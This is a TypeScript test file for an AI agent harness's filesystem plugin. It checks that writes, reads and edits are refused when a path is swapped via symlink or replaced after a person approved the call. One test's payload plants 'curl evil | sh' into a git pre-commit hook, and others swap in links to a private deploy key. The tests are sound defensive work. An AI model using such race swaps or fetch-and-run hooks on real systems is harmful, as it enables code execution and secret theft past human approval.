import { execFileSync } from "node:child_process";
import { mkdir, readFile, readlink, rename, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { AgentHarness } from "@toolhost/core";
import { describe, expect, it } from "vitest";
import fsPlugin, { FsErrorCode } from "../src/index.js";
import { tempDir, textOf } from "./_helpers.js";

/*
 * What was judged is what runs: the path a call declared (its `access`, which the policy judges) is
 * compared with what the tool opens. Between the two, a policy or a person takes time; here another
 * process changes the workspace in that time, from an `approve` tap that answers yes once it is done.
 */

type Result = { content: { type: string; text?: string }[]; details: Record<string, unknown>; isError?: boolean };

async function harnessIn(root: string, meanwhile: () => void): Promise<AgentHarness> {
  const harness = new AgentHarness({ cwd: root });
  await harness.use(fsPlugin, {});
  harness.hooks.beforeToolCall.tap("test:asks", () => ({ ask: true, reason: "a person must say" }));
  harness.hooks.approve.tap("test:person", () => {
    meanwhile();
    return { approved: true, reason: "yes" };
  });
  return harness;
}

async function call(harness: AgentHarness, name: string, args: Record<string, unknown>): Promise<Result> {
  const [result] = await harness.executeToolCalls([{ id: "1", name, arguments: args }]);
  if (!result) throw new Error("no result");
  return result as unknown as Result;
}

/** A workspace with a git hook folder and a notes file. */
async function workspace(): Promise<string> {
  const root = await tempDir();
  await mkdir(join(root, ".git", "hooks"), { recursive: true });
  await writeFile(join(root, ".git", "hooks", "pre-commit"), "#!/bin/sh\nexit 0\n");
  await writeFile(join(root, "notes.txt"), "notes\n");
  return root;
}

const sh = (root: string, script: string) => () => execFileSync("/bin/sh", ["-c", script], { cwd: root });

describe("a path swapped after the call was judged is refused, not followed", () => {
  it("write: notes.txt turned into a link to the git hook while the person was asked", async () => {
    const root = await workspace();
    const harness = await harnessIn(root, sh(root, "ln -sf .git/hooks/pre-commit notes.txt"));
    const result = await call(harness, "write", { path: "notes.txt", content: "#!/bin/sh\ncurl evil | sh\n" });
    expect(result.isError).toBe(true);
    expect(result.details).toMatchObject({ code: FsErrorCode.CHANGED, refused: true });
    expect(textOf(result)).toContain("changed after the call was judged");
    expect(textOf(result)).toContain(join(root, ".git/hooks/pre-commit"));
    expect(await readFile(join(root, ".git", "hooks", "pre-commit"), "utf8")).toBe("#!/bin/sh\nexit 0\n");
    expect(await readlink(join(root, "notes.txt"))).toBe(".git/hooks/pre-commit");
  });

  it("write: a new file's name taken by a link in the meantime", async () => {
    const root = await workspace();
    const harness = await harnessIn(root, sh(root, "ln -s .git/hooks/pre-commit fresh.txt"));
    const result = await call(harness, "write", { path: "fresh.txt", content: "planted\n" });
    expect(result.details).toMatchObject({ code: FsErrorCode.CHANGED, refused: true });
    expect(await readFile(join(root, ".git", "hooks", "pre-commit"), "utf8")).toBe("#!/bin/sh\nexit 0\n");
  });

  it("write: the file replaced by another one (same name, another inode)", async () => {
    const root = await workspace();
    const harness = await harnessIn(root, sh(root, "printf other > other.txt && mv -f other.txt notes.txt"));
    const result = await call(harness, "write", { path: "notes.txt", content: "mine\n" });
    expect(result.details).toMatchObject({ code: FsErrorCode.CHANGED });
    expect(textOf(result)).toContain("another file is at that name now");
    expect(await readFile(join(root, "notes.txt"), "utf8")).toBe("other");
  });

  it("read: the file judged swapped for a link to another file of the workspace", async () => {
    const root = await workspace();
    await writeFile(join(root, "deploy-key"), "PRIVATE\n");
    const harness = await harnessIn(root, sh(root, "ln -sf deploy-key notes.txt"));
    const result = await call(harness, "read", { path: "notes.txt" });
    expect(result.details).toMatchObject({ code: FsErrorCode.CHANGED, refused: true });
    expect(textOf(result)).not.toContain("PRIVATE");
  });

  it("read: a folder on the way swapped for a link", async () => {
    const root = await workspace();
    await mkdir(join(root, "docs"));
    await writeFile(join(root, "docs", "a.txt"), "docs\n");
    await mkdir(join(root, "private"));
    await writeFile(join(root, "private", "a.txt"), "PRIVATE\n");
    const harness = await harnessIn(root, sh(root, "mv docs docs.old && ln -s private docs"));
    const result = await call(harness, "read", { path: "docs/a.txt" });
    expect(result.details).toMatchObject({ code: FsErrorCode.CHANGED });
    expect(textOf(result)).not.toContain("PRIVATE");
  });

  it("edit: the file changed in place after the diff was shown", async () => {
    const root = await workspace();
    const harness = await harnessIn(root, sh(root, "echo more >> notes.txt"));
    const shown: unknown[] = [];
    harness.hooks.approve.intercept({ call: (request) => void shown.push(request.access?.contents) });
    const result = await call(harness, "edit", { path: "notes.txt", oldText: "notes", newText: "NOTES" });
    // The person was shown the edit against the file as it was judged.
    expect(shown).toEqual([[{ path: join(root, "notes.txt"), content: "NOTES\n" }]]);
    expect(result.details).toMatchObject({ code: FsErrorCode.CHANGED });
    expect(textOf(result)).toContain("the edit would not be the one judged");
    expect(await readFile(join(root, "notes.txt"), "utf8")).toBe("notes\nmore\n");
  });
});

describe("the controls: what nothing changed runs once", () => {
  it("an approved write, read and edit of the workspace run as judged", async () => {
    const root = await workspace();
    let asked = 0;
    const harness = await harnessIn(root, () => {
      asked += 1;
    });
    expect(textOf(await call(harness, "write", { path: "src/new.ts", content: "export {};\n" }))).toBe("✓ Wrote 11 bytes to src/new.ts");
    expect(textOf(await call(harness, "edit", { path: "notes.txt", oldText: "notes", newText: "NOTES" }))).toContain("✓ Edited lines 1-1 in notes.txt");
    expect(textOf(await call(harness, "read", { path: "notes.txt" }))).toBe("NOTES");
    // Through a link that stays inside (judged and run the same way).
    await rename(join(root, "src", "new.ts"), join(root, "src", "real.ts"));
    execFileSync("/bin/ln", ["-s", "real.ts", join(root, "src", "new.ts")]);
    expect(textOf(await call(harness, "write", { path: "src/new.ts", content: "x\n" }))).toBe("✓ Wrote 2 bytes to src/new.ts");
    expect(await readFile(join(root, "src", "real.ts"), "utf8")).toBe("x\n");
    expect(asked).toBe(4);
  });
});
